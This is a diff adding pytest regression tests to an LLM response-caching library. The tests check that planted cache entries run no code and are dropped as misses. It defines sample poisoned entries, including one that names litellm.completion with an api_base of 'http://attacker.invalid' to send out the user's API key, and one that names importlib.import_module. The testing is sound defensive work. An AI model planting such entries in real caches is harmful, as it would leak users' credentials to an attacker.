@@ -366,3 +366,49 @@ def test_through_the_wrapped_openai_client_stream_replayed_as_sdk_chunks() -> No
     assert call.kind == "call" and call.cost_usd > 0
     assert [h.cache for h in hits] == ["exact", "exact"]
     assert all(h.cost_usd == 0 and h.saved_usd == call.cost_usd for h in hits)
+
+
+# ------------------------------------------------------------------ stored data is untrusted input
+
+
+def _planted(raw_doc: object) -> dict:
+    return {
+        "result": {"v": 1, "text": "PWNED", "tool_calls": [], "finish_reason": "stop", "usage": [1, 1, 0, 0, False],
+                   "model": "gpt-4o-mini", "cost_usd": 0.0, "raw": raw_doc},
+        "at": 0.0,
+    }
+
+
+PLANTS = [
+    # the reported attack: a stored "type" naming a function that sends the user's API key elsewhere
+    {"type": "litellm.completion", "data": {"model": "gpt-4o", "messages": [], "api_base": "http://attacker.invalid"}},
+    # a real SDK class, of another API (a litellm ModelResponse as an openai chat answer)
+    {"type": "litellm.types.utils.ModelResponse", "data": {"id": "x", "choices": []}},
+    # an import path: must not import anything, and must not fail the call
+    {"type": "importlib.import_module", "data": {"name": "antigravity"}},
+    # the right class with data that does not validate
+    {"type": "openai.types.chat.chat_completion.ChatCompletion", "data": {"choices": 7}},
+]
+
+
+@pytest.mark.parametrize("plant", PLANTS, ids=["litellm.completion", "other-api-class", "import_module", "invalid"])
+@pytest.mark.parametrize("backend", ["disk", "redis"])
+def test_a_planted_entry_never_runs_code_and_is_dropped_as_a_miss(
+    plant: dict, backend: str, tmp_path, request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import litellm
+
+    sent: list[dict] = []
+    monkeypatch.setattr(litellm, "completion", lambda **kw: sent.append(kw))
+    store = DiskStore(tmp_path / "c") if backend == "disk" else RedisStore(request.getfixturevalue("redis_url"))
+    cache = ExactCache(store)
+    store.set(cache.key(chat_call()), _planted(plant), ttl_s=None, labels=[])
+    provider = Provider()
+    with pytest.warns(CostkitWarning, match="unreadable"):
+        result = pipeline(cache, provider).run(chat_call())
+    assert result.source == "provider" and result.text == "Paris."
+    assert sent == [] and len(provider.calls) == 1
+    assert cache.stats["corrupt"] == 1
+    assert store.get(cache.key(chat_call())) is not None  # replaced by the provider's answer, not the plant
+    assert pipeline(cache, provider).run(chat_call()).text == "Paris."
+    assert len(provider.calls) == 1
